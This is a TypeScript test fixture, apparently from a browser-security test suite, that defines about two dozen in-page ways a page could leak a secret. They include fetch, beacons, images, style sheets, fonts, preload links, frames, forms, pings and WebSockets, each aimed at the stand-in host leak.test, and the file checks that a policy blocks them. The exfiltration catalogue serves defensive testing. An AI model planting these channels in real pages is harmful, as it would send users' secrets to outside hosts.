// Ways in which a page could give away a secret, to prove that the recorder sees them and that the
// policy stops them. Each runs inside the page.

type Leak = (address: string, secret: string) => unknown;

/** Channels that carry the secret to the wire, where the address is plain http. */
export const leaks: Record<string, Leak> = {
  fetch: (address) => fetch(address).catch(() => {}),
  "a posted body": (address, secret) =>
    fetch(address.split("?")[0] ?? "", {
      method: "POST",
      mode: "no-cors",
      body: btoa(secret),
    }).catch(() => {}),
  "a kept-alive fetch": (address) => fetch(address, { keepalive: true }).catch(() => {}),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open("GET", address);
    request.send();
  },
  "a beacon": (address, secret) => navigator.sendBeacon(address, secret),
  "an event source": (address) => new EventSource(address),
  "an image": (address) => {
    new Image().src = address;
  },
  "a style sheet": (address) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "stylesheet", href: address }),
    );
  },
  "a picture in a style": (address) => {
    document.body.style.backgroundImage = `url(${address})`;
  },
  "a font": (address) => new FontFace("leak", `url(${address})`).load().catch(() => {}),
  "a prefetch": (address) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "prefetch", href: address }),
    );
  },
  "a preload": (address) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: address }),
    );
  },
  "a module preload": (address) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "modulepreload", href: address }),
    );
  },
  "a frame": (address) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: address }));
  },
  "a form": (address) => {
    const form = Object.assign(document.createElement("form"), { action: address, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a video": (address) => {
    document.body.append(
      Object.assign(document.createElement("video"), { src: address, preload: "auto" }),
    );
  },
  "a poster": (address) => {
    document.body.append(Object.assign(document.createElement("video"), { poster: address }));
  },
  "an object": (address) => {
    document.body.append(Object.assign(document.createElement("object"), { data: address }));
  },
  "an imported module": (address) => import(/* @vite-ignore */ address).catch(() => {}),
  "a script": (address) => {
    document.head.append(Object.assign(document.createElement("script"), { src: address }));
  },
  "a ping": (address) => {
    const link = Object.assign(document.createElement("a"), { href: "#here", ping: address });
    document.body.append(link);
    link.click();
  },
  "a new window": (address) => window.open(address),
};

/** Channels that tell only a host, through a tunnel. */
export const tunnelLeaks = ["WebSocket", "https"] as const;

const hostLeaks: Record<(typeof tunnelLeaks)[number], Leak> = {
  WebSocket: () => new WebSocket("wss://leak.test"),
  https: () => fetch("https://leak.test").catch(() => {}),
};

const sources = Object.entries({ ...leaks, ...hostLeaks }).map(
  ([name, leak]) => `${JSON.stringify(name)}: ${leak.toString()}`,
);

export const leakPage = {
  html: '<!doctype html><meta charset="utf-8"><title>Leaks</title><h1>Leaks</h1><script src="/leaks.js"></script>',
  script: `globalThis.leaks = {${sources.join(",\n")}};`,
  /** Scheduled inside the page: code that the driver runs itself may do what the page may not. */
  run: ([name, secret]: readonly [name: string, secret: string]) =>
    new Promise<void>((done) => {
      setTimeout(() => {
        const all = (globalThis as unknown as { leaks: Record<string, Leak> }).leaks;
        try {
          all[name]?.(`http://leak.test/${encodeURIComponent(name)}?secret=${secret}`, secret);
        } catch {
          // A refusal by the policy is what the test hopes for; the wire tells whether it held.
        }
        done();
      });
    }),
};
